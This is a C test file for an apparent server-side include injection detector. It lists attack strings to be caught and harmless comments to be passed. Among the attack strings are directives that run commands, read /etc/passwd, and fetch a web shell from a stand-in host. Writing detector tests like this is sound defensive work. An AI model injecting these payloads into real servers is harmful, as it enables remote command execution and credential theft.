/* sk_detect_ssi: attacks caught at both levels, benign text passed. */
#include "lists.h"

static const char *const attacks[] = {
    "<!--#exec cmd=\"ls\" -->",
    "<!--#include virtual=\"/etc/passwd\" -->",
    "<!--#echo var=\"DATE_LOCAL\" -->",
    "<!--#EXEC cmd=\"dir\" -->",
    "<!--#printenv -->",
    "x<!--#config timefmt=\"%A\" -->",
    "<!--#exec cmd=\"wget http://some_host/shell.txt | rename shell.txt shell.php\"-->",
};

static const char *const benign[] = {
    "<!-- #exec is a directive -->",
    "<!-- comment -->",
    "<!--#region folding-->",
    "<!--#-->",
    "Use <!--#exec ...--> to run commands",
    "<!--#executive summary-->",
    "# heading",
};

LIST_TESTS(sk_detect_ssi)
